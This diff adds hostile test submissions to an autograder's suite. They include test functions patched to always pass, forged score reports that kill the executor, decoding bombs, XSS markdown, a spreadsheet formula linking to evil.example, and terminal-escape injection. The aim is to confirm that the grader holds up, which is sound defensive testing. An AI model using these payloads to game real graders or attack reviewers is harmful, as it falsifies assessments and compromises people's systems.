@@ -228,6 +228,86 @@ with socket.socket(socket.AF_UNIX) as s:  # and a second judgement of a cell, wi
     print("PROBE forge: the judge said", wire.receive(s).get("op"))
 """
 
+# The visible tests end in expect(...): patched to return a value, each test cell shows an execute_result, which
+# nbgrader's own rule (determine_grade) takes for full credit.
+EXPECT_OK = """\
+import coursekit.testing as _testing
+for _name in ("expect", "expect_close", "expect_raises"):
+    setattr(_testing, _name, lambda *args, **kwargs: "ok")
+"""
+# The executor's report, forged: the notebook as handed in with an execute_result in every test cell; then the
+# executor is killed, so its true report never comes.
+FORGE_SCORES = """\
+import json, os, signal, socket
+from autograder import wire
+nb = json.load(open("/grading/in/01-tokens.ipynb"))
+for cell in nb["cells"]:
+    if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
+        cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {},
+                            "data": {"text/plain": "13"}}]
+        cell["execution_count"] = 1
+with socket.socket(socket.AF_UNIX) as s:
+    s.connect(os.environ["MINIGPT_JUDGE"])
+    wire.send(s, {"executed": json.dumps(nb), "status": "ran", "detail": ""})
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+
+# ---------------------------------------------------------------- stopping everyone's grading
+
+# An error message no UTF-8 writer can write (a lone surrogate), with terminal escapes in it.
+SURROGATE = """\
+def bpe_merge(piece, ranks):
+    raise ValueError("\\ud800 \\x1b]0;owned\\x07\\x1b[2K\\x1bM\\x1b[?1049h")
+"""
+# A report whose detail is one space and whose notebook is 100,000 nested lists.
+FORGE_BROKEN = """\
+import os, signal, socket
+from autograder import wire
+with socket.socket(socket.AF_UNIX) as s:
+    s.connect(os.environ["MINIGPT_JUDGE"])
+    wire.send(s, {"executed": "[" * 100_000, "status": "stopped", "detail": " "})
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+# Every reply of the learner's side replaced by data that is expensive or impossible to decode: a tensor of
+# 800,000 dimensions, 100,000 namedtuple classes, a 5000-digit int, a set of lists, 71 dimensions, a size of 2**70.
+WIRE_BOMBS = """\
+import itertools
+from autograder import wire
+_bombs = itertools.cycle([
+    {"$": "tensor", "dtype": "float32", "shape": [2] * 800_000 + [0], "data": ""},
+    [{"$": "tuple", "v": [0], "fields": [f"f{i}"]} for i in range(100_000)],
+    {"$": "int", "v": "9" * 5000},
+    {"$": "set", "v": [[1], [2]]},
+    {"$": "tensor", "dtype": "float32", "shape": [1] * 71, "data": "AAAAAA=="},
+    {"$": "tensor", "dtype": "float32", "shape": [2 ** 70, 0], "data": ""},
+])
+wire.encode = lambda value, refer=None: next(_bombs)
+"""
+
+# ---------------------------------------------------------------- fooling the people who read the results
+
+XSS_MARKDOWN = (
+    "My notes.\n\n<img src=x onerror=\"fetch('/api/contents/xss-img.txt', {method: 'PUT'})\">\n"
+    "<svg onload=\"fetch('/api/contents/xss-svg.txt', {method: 'PUT'})\"></svg>\n"
+    "[click](javascript:alert(1)) <script>document.title = 'owned'</script>\n"
+)
+# A learner cell with nbgrader metadata whose grade id is a spreadsheet formula, and a line with terminal escapes
+# that the review notes quote.
+FORMULA_ID = '=HYPERLINK("http://evil.example")&T("'
+ESCAPES_LINE = "import socket  # \x1b]0;owned\x07\x1b[2K\x1bM\x1b]52;c;b3duZWQ=\x07"
+
+
+def _fools_readers() -> str:
+    nb = _reference()
+    at = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "imports")
+    nb.cells.insert(at + 1, nbformat.v4.new_markdown_cell(XSS_MARKDOWN))
+    cell = nbformat.v4.new_code_cell(ESCAPES_LINE + "\n")
+    cell.metadata["nbgrader"] = {"grade_id": FORMULA_ID, "solution": True, "grade": False, "locked": False,
+                                 "schema_version": 3}
+    nb.cells.insert(at + 2, cell)
+    return _text(nb)
+
+
 # ---------------------------------------------------------------- reading what is hidden
 
 # Every path this process can see whose name matches (the whole file system, but /proc, /sys and /dev).
@@ -427,6 +507,19 @@ HOSTILE = [
             _wrong_with(FRAME_WALK, "bpe_merge")),
     Hostile("forge", "sends the judge a clean executed notebook and a second judgement of its own",
             _wrong_with(FORGE_EXECUTED, "")),
+    Hostile("expect-ok", "expect, expect_close and expect_raises patched to return 'ok'", _wrong_with(EXPECT_OK)),
+    Hostile("forge-scores", "a forged report with an execute_result in every test cell, the executor killed",
+            _wrong_with(FORGE_SCORES, "")),
+    # stopping everyone's grading (each must cost its own row only)
+    Hostile("surrogate", "bpe_merge raises an error whose message holds a lone surrogate and terminal escapes",
+            _wrong_with(SURROGATE, "bpe_merge")),
+    Hostile("forge-broken", "a forged report: detail ' ', a notebook of 100,000 nested lists",
+            _reference_with(FORGE_BROKEN, "")),
+    Hostile("wire-bombs", "every reply replaced by data that is slow, huge or impossible to decode",
+            _reference_with(WIRE_BOMBS)),
+    # fooling the people who read the results
+    Hostile("fools-readers", "script in markdown, a formula as a grade id, terminal escapes in a quoted line",
+            _fools_readers),
     # reading what is hidden (nothing written: whatever it scores comes from what it found)
     Hostile("snoop", "reads solutions, checks, the reference, .git and gradebooks by every path it can think of",
             _untouched_with(SNOOP)),
